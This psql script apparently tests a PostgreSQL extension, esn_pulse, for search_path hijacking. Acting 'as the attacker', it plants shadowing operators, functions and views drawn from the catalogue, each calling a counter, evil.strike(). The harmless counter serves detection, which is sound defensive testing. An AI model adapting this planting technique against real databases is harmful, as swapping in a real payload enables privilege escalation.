-- Plants objects in a schema (variable: place) that take the place of whatever the extension's
-- functions, views and triggers name, as far as the types allow: operators and functions that fit
-- better than those of pg_catalog, functions and tables named as the extension's. Run it as the
-- attacker. Each of them calls evil.strike(), which counts in a sequence, so that no rollback hides
-- it. What is planted follows from the catalogue, so that new objects of the extension are covered.
\set ON_ERROR_STOP on
SET client_min_messages = warning;
SET search_path = pg_catalog;

-- Where the extension's names are: its functions' bodies and its views.
CREATE TEMP TABLE text_of AS
SELECT string_agg(body, E'\n') AS body FROM (
	SELECT prosrc || coalesce(pg_get_function_sqlbody(oid), '') AS body FROM pg_proc
	WHERE oid IN (SELECT objid FROM pg_depend WHERE deptype = 'e' AND classid = 'pg_proc'::regclass
		AND refobjid = (SELECT oid FROM pg_extension WHERE extname = 'esn_pulse'))
	UNION ALL
	SELECT pg_get_viewdef(oid) FROM pg_class WHERE relkind = 'v'
		AND oid IN (SELECT objid FROM pg_depend WHERE deptype = 'e'
			AND refobjid = (SELECT oid FROM pg_extension WHERE extname = 'esn_pulse'))
) b;
CREATE TEMP TABLE types AS
SELECT t::regtype AS type FROM unnest(ARRAY['text', 'varchar', 'bpchar', 'name', '"char"', 'int2',
	'int4', 'int8', 'numeric', 'float4', 'float8', 'bool', 'date', 'timestamp', 'timestamptz',
	'interval', 'jsonb', 'json', 'oid', 'regclass', 'regnamespace', 'regrole', 'regproc',
	'regprocedure', 'xid8', 'text[]', 'varchar[]', 'int4[]', 'int8[]', 'jsonb[]']) t;

-- One plpgsql body for all: the planner does not inline it, and NULL is of any type.
CREATE FUNCTION pg_temp.plant(head text, result text) RETURNS integer LANGUAGE plpgsql AS $plant$
BEGIN
	EXECUTE format('CREATE FUNCTION %s RETURNS %s LANGUAGE plpgsql AS $$BEGIN PERFORM '
		'evil.strike(%L); RETURN NULL; END$$', head, result, head);
	RETURN 1;
EXCEPTION WHEN duplicate_function OR feature_not_supported OR invalid_function_definition THEN
	RETURN 0;
END $plant$;
CREATE FUNCTION pg_temp.plant_operator(place text, symbol text, l regtype, r regtype, gives text)
	RETURNS integer LANGUAGE plpgsql AS $plant$
DECLARE
	name text := format('evil_%s', md5(format('%s %s %s %s', symbol, l, r, gives)));
BEGIN
	PERFORM pg_temp.plant(format('%s.%s(%s, %s)', place, name, l, r), gives);
	EXECUTE format('CREATE OPERATOR %s.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %1$s.%5$s)',
		place, symbol, l, r, name);
	RETURN 1;
EXCEPTION WHEN duplicate_function OR syntax_error THEN
	RETURN 0;
END $plant$;

-- Operators: each symbol that the extension uses, for each pair of types.
SELECT sum(pg_temp.plant_operator(:'place', o.oprname, l.type, r.type,
	(SELECT p.oprresult::regtype::text FROM pg_operator p
		WHERE p.oprname = o.oprname AND p.oprkind = 'b'
			AND p.oprresult::regtype::text !~ '^any'
		ORDER BY p.oprleft = l.type DESC, p.oprright = r.type DESC, p.oid LIMIT 1)))
	AS operators
FROM (SELECT DISTINCT oprname FROM pg_operator, text_of
	WHERE oprkind = 'b' AND oprnamespace = 'pg_catalog'::regnamespace
		AND position(oprname::text IN body) > 0
		AND oprname ~
			'^(=|<>|<|>|<=|>=|[+*/%-]|\|\||!?~\*?|!?~~\*?|->>?|#>>?|@>|<@|\?[|&]?|&&)$') o,
	types l, types r
WHERE l.type = r.type OR l.type IN ('varchar'::regtype, 'text', 'name', 'int4', 'int8', 'oid',
	'regclass', 'regnamespace', 'regrole', 'jsonb', 'date', 'timestamptz', '"char"', 'text[]',
	'numeric', 'int2')
	AND r.type IN ('varchar'::regtype, 'text', 'name', 'int4', 'int8', 'oid', 'regclass',
	'regnamespace', 'regrole', 'date', 'timestamptz', 'interval', 'int2', 'varchar[]', 'text[]',
	'numeric') \gset

-- Functions of pg_catalog that the extension calls: the same arguments, and narrower ones.
SELECT sum(pg_temp.plant(format('%s.%I(%s)', :'place', p.proname, a.list),
	CASE WHEN p.prorettype::regtype::text LIKE 'any%'
		OR p.prorettype IN ('record'::regtype, 'void'::regtype)
		THEN 'text' ELSE p.prorettype::regtype::text END)) AS functions
FROM pg_proc p, text_of, LATERAL (
	SELECT string_agg(CASE WHEN t.type::regtype::text LIKE 'any%array' THEN 'text[]'
		WHEN t.type::regtype::text ~ '^"?any' THEN 'text' ELSE t.type::regtype::text END, ', '
		ORDER BY t.n) AS list
	FROM unnest(p.proargtypes) WITH ORDINALITY AS t(type, n)
	UNION
	SELECT string_agg(CASE t.type::regtype::text WHEN 'text' THEN 'varchar' WHEN 'bigint' THEN
			'integer' WHEN 'anyelement' THEN 'varchar' WHEN '"any"' THEN 'varchar'
			WHEN 'anyarray' THEN 'varchar[]' WHEN 'anynonarray' THEN 'varchar'
			WHEN 'anycompatible' THEN 'varchar' WHEN 'anycompatiblearray' THEN 'varchar[]'
			WHEN 'double precision' THEN 'integer' WHEN 'timestamp with time zone' THEN 'date'
			ELSE t.type::regtype::text END, ', ' ORDER BY t.n)
	FROM unnest(p.proargtypes) WITH ORDINALITY AS t(type, n)) a
WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
	AND 'internal'::regtype <> ALL (p.proargtypes::oid[])
	AND body ~ ('\m' || regexp_replace(p.proname::text, '\W', '', 'g') || '\(') \gset

-- The extension's own functions: the same arguments, narrower ones, and the first few of those that
-- have defaults. Others may not use the types of the internal schema, so arrays stand for them.
SELECT sum(pg_temp.plant(format('%s.%I(%s)', :'place', p.proname, a.list), 'text')) AS own
FROM pg_proc p JOIN pg_depend d ON d.objid = p.oid AND d.deptype = 'e'
JOIN pg_extension e ON e.oid = d.refobjid AND e.extname = 'esn_pulse',
	LATERAL (
	SELECT coalesce(string_agg(CASE WHEN t.type::regtype::text LIKE 'esn\_internal.%'
			THEN 'anyarray'
		WHEN how.narrow THEN CASE t.type::regtype::text
			WHEN 'text' THEN 'varchar' WHEN 'bigint' THEN 'integer' WHEN 'text[]' THEN 'varchar[]'
			WHEN 'double precision' THEN 'integer' ELSE t.type::regtype::text END
		ELSE t.type::regtype::text END, ', ' ORDER BY t.n), '') AS list
	FROM generate_series((p.pronargs - p.pronargdefaults)::integer, p.pronargs::integer) AS few
	CROSS JOIN (VALUES (true), (false)) AS how(narrow)
	LEFT JOIN LATERAL (SELECT u.type, u.n FROM unnest(p.proargtypes) WITH ORDINALITY AS u(type, n)
		WHERE u.n <= few) t ON true
	GROUP BY few, how.narrow) a
WHERE p.prorettype <> 'trigger'::regtype \gset

-- Tables and views named as those in the internal schema.
SELECT format('CREATE VIEW %s.%I AS SELECT evil.strike(''view'') AS id, NULL::text AS view, '
	'NULL::date AS as_of, NULL::jsonb AS rows', :'place', relname)
FROM pg_class WHERE relkind IN ('r', 'v') AND relnamespace = to_regnamespace('esn_internal') \gexec
SELECT :operators AS operators, :functions AS functions, :own AS own;
